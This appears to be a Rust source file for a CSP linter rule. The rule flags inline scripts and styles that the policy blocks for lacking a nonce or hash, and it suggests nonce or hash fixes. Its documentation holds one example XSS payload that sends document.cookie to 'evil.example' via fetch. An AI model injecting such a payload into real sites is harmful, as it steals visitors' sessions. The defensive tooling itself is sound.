use crate::csp::{Hash, HashAlgorithm, HashSubject, SourceExpression};
use crate::fetch::Reason;
use crate::lint::page_inline::{inline, with_line_feeds};
use crate::lint::page_judge::{Fix, Nonce, blocked, is_nonceable, nonce_attribute, with_nonce};
use crate::lint::page_report::{PageContext, PageReport};
use crate::lint::report::lint;
use crate::page::{Element, Event, Finding, Known, ScriptKind};

lint! {
    /// # What it does
    ///
    /// Looks for inline scripts and styles that the policy blocks: without the nonce of the response, with another one, and
    /// without a listed hash. Import maps and speculation rules count as scripts; data, such as `type="application/json"`, does not.
    ///
    /// # Why it matters
    ///
    /// The browser does not run the script and does not apply the style. On a branch that a test never renders, nobody notices
    /// before a visitor does.
    ///
    /// # Attack
    ///
    /// The usual repair of the broken page is `unsafe_inline`, which allows every script that is injected into it:
    ///
    /// ```html
    /// <script>fetch('https://evil.example/?' + document.cookie)</script>
    /// ```
    ///
    /// # Example
    ///
    /// ```html
    /// <script>start()</script>
    /// ```
    ///
    /// # Fix
    ///
    /// Print the nonce, or list the hash that the finding names. A hash does not fit a script with an expression in it.
    ///
    /// ```html
    /// <script nonce="{{ nonce }}">start()</script>
    /// ```
    ///
    /// # Allow
    ///
    /// ```html
    /// {# security_policy: allow(template_inline_without_nonce, reason = "the error page is sent with another policy") #}
    /// ```
    ///
    /// Reasonable where the page is sent with another policy than the one that it is checked against.
    ///
    /// # References
    ///
    /// - [CSP3, section 6.7.3.3, does an element match a source list](https://w3c.github.io/webappsec-csp/#match-element-to-source-list)
    /// - [HTML, the script element](https://html.spec.whatwg.org/multipage/scripting.html#prepare-the-script-element)
    Deny "an inline script or style that the policy blocks" page,
    cwe [], asvs [],
    check
}

fn check(event: &Event<'_>, context: &PageContext<'_>, report: &mut PageReport<'_>) {
    let Event::Raw { element, content } = event else { return };
    let code = with_line_feeds(content.known());
    let Some(inline) = inline(element, &code) else { return };
    if element.is("script") && !report.state.runs_scripts() {
        return;
    }
    let nonce = Nonce::of(element, context);
    let Some(ruling) = blocked(report.state.policies(), &with_nonce(inline, element, nonce), None) else { return };
    let fix = Fix::new(&ruling, report.state, context);
    if matches!(nonce, Nonce::Text(..)) && context.nonce.is_some() && fix.takes_nonce() {
        // `template_constant_nonce` reports it.
        return;
    }
    let name = element.name.constant().unwrap_or_default();
    let (message, place) = match nonce {
        Nonce::Other(attribute, output) if fix.takes_nonce() => {
            let message = format!("`{}` is not the expression of the nonce", context.files.text(output.place));
            (message, attribute.value.as_ref().map_or(attribute.place, |value| value.place))
        }
        Nonce::Text(attribute, _) | Nonce::Mixed(attribute) if fix.takes_nonce() => {
            let message = "this nonce is not that of the response".to_owned();
            (message, attribute.value.as_ref().map_or(attribute.place, |value| value.place))
        }
        _ => (format!("the inline `{name}` is blocked by {}", fix.directive()), element.place),
    };
    let finding = Finding::new(place, message).note(fix.note(&why(&fix, element, &code)));
    let nonce = nonce_attribute(report.state, context);
    let nonce = match context.nonce {
        Some(_) => format!("write `<{name} {nonce}>`"),
        None => format!("print the nonce of the response: `<{name} {nonce}>`"),
    };
    let help = help(&fix, element, &code, &nonce);
    report.push(finding.help(help));
}

fn why(fix: &Fix<'_>, element: &Element<'_>, code: &Known) -> String {
    let what = if element.is("style") { "apply it" } else { "run it" };
    if !is_nonceable(element) && fix.takes_nonce() {
        return "they ignore the nonce of an element with an attribute that contains `<script` or `<style`".to_owned();
    }
    match code.is_complete {
        true => format!("it has neither the nonce of the response nor a listed hash, so they do not {what}"),
        false => format!(
            "it has no nonce of the response, and no hash fits a text with an expression in it, so they do not {what}"
        ),
    }
}

fn help(fix: &Fix<'_>, element: &Element<'_>, code: &Known, nonce: &str) -> String {
    if let Reason::Sandboxed(token) = fix.ruling.reason {
        return format!("add `{}` to `sandbox`, or move the script to another page", token.key);
    }
    let digest = || HashAlgorithm::Sha256.digest(code.text.as_bytes());
    let hash = || {
        SourceExpression::Hash(Hash {
            subject: HashSubject::Content,
            algorithm: HashAlgorithm::Sha256,
            digest: digest(),
        })
    };
    // Browsers read an import map and speculation rules from the page alone.
    let is_file = element.is("style") || element.script_kind() == ScriptKind::Code;
    let or_file = if is_file { "move it to a file, or " } else { "" };
    match (fix.takes_nonce(), code.is_complete) {
        (true, true) => format!("{nonce}, or {}", fix.add(&hash())),
        (true, false) => nonce.to_owned(),
        (false, true) => format!("{or_file}{}", fix.add(&hash())),
        (false, false) => format!("{or_file}{}, and {nonce}", fix.add(&SourceExpression::Nonce)),
    }
}
